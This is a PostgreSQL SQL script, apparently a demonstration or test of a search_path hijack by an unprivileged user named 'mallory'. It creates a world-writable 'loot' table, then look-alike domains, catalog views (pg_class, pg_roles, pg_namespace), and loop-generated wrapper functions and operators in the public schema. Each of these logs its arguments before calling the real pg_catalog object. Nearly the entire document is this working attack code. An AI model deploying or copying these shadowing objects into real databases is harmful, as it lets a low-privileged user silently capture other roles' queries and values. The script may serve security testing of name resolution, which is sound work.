-- The user `mallory` may create objects in `public`, and has no right on the table. Each of these
-- objects writes its arguments to `loot`, and then does what the object of `pg_catalog` does.
create table public.loot (taken text);
grant insert on public.loot to public;

create function public.seen(what pg_catalog.text) returns bool language plpgsql as
$$ begin insert into public.loot values (what); return true; end $$;

-- Types, for a search path that names `pg_catalog` last.
create domain public.text as pg_catalog.text check (public.seen(value));
create domain public.timestamptz as pg_catalog.timestamptz check (public.seen(value::pg_catalog.text));
create domain public.int8 as pg_catalog.int8 check (public.seen(value::pg_catalog.text));
create domain public.float8 as pg_catalog.float8 check (public.seen(value::pg_catalog.text));
create collation public."C" from pg_catalog."POSIX";

-- Catalogs.
create view public.pg_class as select * from pg_catalog.pg_class where public.seen('pg_class');
create view public.pg_roles as select * from pg_catalog.pg_roles where public.seen('pg_roles');
create view public.pg_namespace as select * from pg_catalog.pg_namespace where public.seen('pg_namespace');
grant select on public.pg_class, public.pg_roles, public.pg_namespace to public;

-- Functions and operators, with the arguments of `pg_catalog`'s and with arguments that match better.
do $make$
declare
    types constant name[] := '{int2,int4,int8,oid,float8,numeric,text,name,regclass,regnamespace,timestamptz,interval,bool}';
    functions constant name[] := '{ceil,clock_timestamp,concat,current_database,current_schema,current_schemas,date_part,
        extract,format,make_interval,num_nonnulls,pg_advisory_xact_lock,pg_get_userbyid,pg_has_role,
        pg_notify,quote_ident,set_config,to_regclass,unnest}';
    operators constant name[] := '{=,<>,<,<=,>,>=,+,-,*,/,~,||,!~,<@,@>}';
    function record;
    arguments record;
    result name;
    number int := 0;
begin
    for function in
        select p.proname as called, p.proretset as is_set,
               min(p.prorettype::regtype::pg_catalog.text) as returns
        from pg_catalog.pg_proc p
        where p.proname = any (functions) and p.pronamespace = 'pg_catalog'::regnamespace
        group by 1, 2
    loop
        for arguments in
            select pg_get_function_identity_arguments(p.oid) as types, p.prorettype::regtype as returns,
                   p.pronargs as count
            from pg_catalog.pg_proc p
            where p.proname = function.called and p.pronamespace = 'pg_catalog'::regnamespace
              and p.proretset = function.is_set and p.proargnames is null and p.provariadic = 0
            union
            select concat_ws(', ', one, other), function.returns::regtype, num_nonnulls(one, other)
            from unnest(types) one, unnest(types || null::name) other
            where not function.is_set and (function.called = any ('{concat,format,num_nonnulls}') or exists (
                select from pg_catalog.pg_proc p where p.proname = function.called
                and p.pronargs = num_nonnulls(one, other)))
            union
            select 'int8, int8, text, int8, int8, text, int8, int8, text', 'int4'::regtype, 9
            where function.called = 'num_nonnulls'
            union
            select 'text, int8, int8', 'int4'::regtype, 3
            where function.called = 'num_nonnulls'
        loop
            begin
                execute format(
                    'create function public.%I(%s) returns %s %s language plpgsql as '
                    '$body$ begin perform public.seen(pg_catalog.concat_ws('' '', %L, %s)); '
                    '%s pg_catalog.%I(%s); end $body$',
                    function.called, arguments.types, case when function.is_set then 'setof' end,
                    arguments.returns, function.called,
                    coalesce((select string_agg('$' || n, ', ') from generate_series(1, arguments.count) n), ''''''),
                    case when function.is_set then 'return query select * from'
                        when function.returns = 'void' then 'perform' else 'return' end,
                    function.called,
                    (select string_agg('$' || n, ', ') from generate_series(1, arguments.count) n));
            exception when duplicate_function or invalid_function_definition then null;
            end;
        end loop;
    end loop;
    for arguments in
        select operator, left_type, right_type
        from unnest(operators) operator, unnest(types) left_type, unnest(types) right_type
    loop
        begin
            execute format('select pg_typeof(null::%s operator(pg_catalog.%s) null::%s)',
                arguments.left_type, arguments.operator, arguments.right_type) into result;
            number := number + 1;
            execute format(
                'create function public.operator_%s(%s, %s) returns %s language plpgsql as '
                '$body$ begin perform public.seen(pg_catalog.concat_ws('' '', $1, %L, $2)); '
                'return $1 operator(pg_catalog.%s) $2; end $body$',
                number, arguments.left_type, arguments.right_type, result, arguments.operator,
                arguments.operator);
            execute format(
                'create operator public.%s (leftarg = %s, rightarg = %s, function = public.operator_%s)',
                arguments.operator, arguments.left_type, arguments.right_type, number);
        exception when undefined_function or ambiguous_function or datatype_mismatch then null;
        end;
    end loop;
end $make$;
